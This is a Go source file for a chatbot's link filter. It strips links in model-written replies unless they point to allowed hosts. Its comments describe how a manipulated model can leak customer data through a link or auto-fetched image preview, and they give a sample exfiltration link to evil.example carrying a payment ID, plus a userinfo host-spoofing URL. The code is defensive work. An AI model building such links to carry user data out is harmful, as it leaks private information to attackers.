// Package links decides which links the bot may send. A model that was
// talked into it can carry a customer's data out in a link ("[details](https://
// evil.example/?d=PAY-1001 120.00)") or an image, which the platform fetches
// by itself to show a preview. So links in model-written replies are kept
// only to allowed hosts and their subdomains; any other is replaced by its
// text and "(link removed)", before the reply is stored or sent. The
// package imports nothing of the project.
package links

import (
	"net/url"
	"regexp"
	"slices"
	"strings"
)

// removed replaces a link to a host that is not allowed.
const removed = "(link removed)"

// Policy is an allow-list of link hosts. The zero Policy allows no host.
type Policy struct {
	hosts []string // lower case, without trailing dots
}

// New allows links to hosts (and their subdomains). Entries are
// host names such as "help.example.com"; a scheme, path or port given with
// one is ignored.
func New(hosts ...string) Policy {
	var p Policy
	for _, h := range hosts {
		if h = normalHost(h); h != "" && !slices.Contains(p.hosts, h) {
			p.hosts = append(p.hosts, h)
		}
	}
	return p
}

// With returns a policy that also allows hosts.
func (p Policy) With(hosts ...string) Policy {
	return New(append(slices.Clone(p.hosts), hosts...)...)
}

// Hosts lists the allowed hosts.
func (p Policy) Hosts() []string { return slices.Clone(p.hosts) }

// Allowed reports whether a link to rawURL may be sent: an http(s) URL (or a
// mailto: address) whose host is allowed. URLs with user information
// ("https://help.example.com@evil.example/") are never allowed: they read as
// one host and go to another.
func (p Policy) Allowed(rawURL string) bool {
	rawURL = strings.TrimSpace(rawURL)
	if strings.HasPrefix(strings.ToLower(rawURL), "www.") {
		rawURL = "https://" + rawURL
	}
	u, err := url.Parse(rawURL)
	if err != nil {
		return false
	}
	var host string
	switch strings.ToLower(u.Scheme) {
	case "http", "https":
		if u.User != nil || u.Opaque != "" {
			return false
		}
		host = u.Hostname()
	case "mailto":
		addr := u.Opaque
		if i := strings.IndexByte(addr, '?'); i >= 0 {
			addr = addr[:i]
		}
		_, host, _ = strings.Cut(addr, "@")
	case "":
		// A scheme-less "example.com/path", as the bare-link pattern finds.
		u, err = url.Parse("https://" + rawURL)
		if err != nil || u.User != nil {
			return false
		}
		host = u.Hostname()
	default:
		return false
	}
	return p.allowedHost(host)
}

func (p Policy) allowedHost(host string) bool {
	host = strings.TrimSuffix(strings.ToLower(host), ".")
	if host == "" || !isASCII(host) {
		// Look-alike letters (Cyrillic "а" in "exаmple.com") are not the
		// host an admin allowed.
		return false
	}
	for _, h := range p.hosts {
		if host == h || strings.HasSuffix(host, "."+h) {
			return true
		}
	}
	return false
}

// urlChars is a character of a URL as the bare-link pattern reads it.
const urlChars = "[^\\s<>\"'`()\\[\\]{}|]"

var (
	// mdLinkRe is a markdown link or image: [text](url "title"), ![alt](url).
	// The URL may hold one level of balanced parentheses, as markdown
	// allows: [x](javascript:alert(1)).
	mdLinkRe = regexp.MustCompile(`(!?)\[([^\[\]\n]{0,1000})\]\(\s*<?((?:[^\s()<>]|\([^\s()<>]*\))+)>?(?:\s+(?:"[^"\n]*"|'[^'\n]*'))?\s*\)`)
	// angleLinkRe is an autolink <https://…> or Slack's <https://…|text>.
	angleLinkRe = regexp.MustCompile(`(?i)<((?:[a-z][a-z0-9+.-]{0,20}):[^\s<>|]*)(?:\|([^<>\n]{0,1000}))?>`)
	// bareLinkRe is what platforms turn into links by themselves: a URL
	// with a scheme, a www. host, or a host name followed by a path.
	// It stops at brackets and parentheses, which end a URL in the markdown
	// around it far more often than they are part of one.
	bareLinkRe = regexp.MustCompile(`(?i)\b(?:(?:https?|ftp|wss?)://` + urlChars + `+|www\.[a-z0-9-]+(?:\.[a-z0-9-]+)+` + urlChars + `*|[a-z0-9](?:[a-z0-9-]{0,62}\.)+[a-z]{2,24}/` + urlChars + `*)`)
)

// Neutralize returns text with every link to a host that is not allowed
// replaced by its text and "(link removed)", and how many were.
func (p Policy) Neutralize(text string) (string, int) {
	n := 0
	text = mdLinkRe.ReplaceAllStringFunc(text, func(m string) string {
		sub := mdLinkRe.FindStringSubmatch(m)
		if p.Allowed(sub[3]) {
			return m
		}
		n++
		return joinRemoved(sub[2])
	})
	text = angleLinkRe.ReplaceAllStringFunc(text, func(m string) string {
		sub := angleLinkRe.FindStringSubmatch(m)
		if p.Allowed(sub[1]) {
			return m
		}
		n++
		return joinRemoved(sub[2])
	})
	text = bareLinkRe.ReplaceAllStringFunc(text, func(m string) string {
		// Sentence punctuation after a link is not part of it.
		trimmed := strings.TrimRight(m, ".,;:!?)]}*_~")
		if p.Allowed(trimmed) {
			return m
		}
		n++
		return removed + m[len(trimmed):]
	})
	return text, n
}

// joinRemoved is a removed link's text followed by the notice. The text
// itself may hold a link (the visible "https://…" of [https://…](…)); the
// bare-link pass that follows deals with it.
func joinRemoved(label string) string {
	label = strings.TrimSpace(label)
	if label == "" {
		return removed
	}
	return label + " " + removed
}

// HostsIn returns the hosts that the links in text point to, in order of
// appearance, without repeats. Hosts linked from the prompt files are
// allowed: an admin wrote them there.
func HostsIn(text string) []string {
	var out []string
	add := func(raw string) {
		raw = strings.TrimRight(raw, ".,;:!?)]}*_~")
		if strings.HasPrefix(strings.ToLower(raw), "www.") || !strings.Contains(raw, "://") {
			raw = "https://" + raw
		}
		u, err := url.Parse(raw)
		if err != nil || u.User != nil {
			return
		}
		if h := normalHost(u.Hostname()); h != "" && !slices.Contains(out, h) {
			out = append(out, h)
		}
	}
	for _, m := range mdLinkRe.FindAllStringSubmatch(text, -1) {
		add(m[3])
	}
	for _, m := range bareLinkRe.FindAllString(text, -1) {
		add(m)
	}
	return out
}

// normalHost reduces a configured host ("https://Help.Example.com/x") to
// its name ("help.example.com"); "" when it is not a host name.
func normalHost(h string) string {
	h = strings.ToLower(strings.TrimSpace(h))
	if i := strings.Index(h, "://"); i >= 0 {
		h = h[i+3:]
	}
	if i := strings.IndexAny(h, "/?#"); i >= 0 {
		h = h[:i]
	}
	if i := strings.LastIndexByte(h, ':'); i >= 0 {
		h = h[:i]
	}
	h = strings.TrimSuffix(strings.TrimPrefix(h, "*."), ".")
	if h == "" || !isASCII(h) || strings.ContainsAny(h, "@ \t") || !strings.Contains(h, ".") && h != "localhost" {
		return ""
	}
	return h
}

func isASCII(s string) bool {
	for i := 0; i < len(s); i++ {
		if s[i] >= 0x80 {
			return false
		}
	}
	return true
}
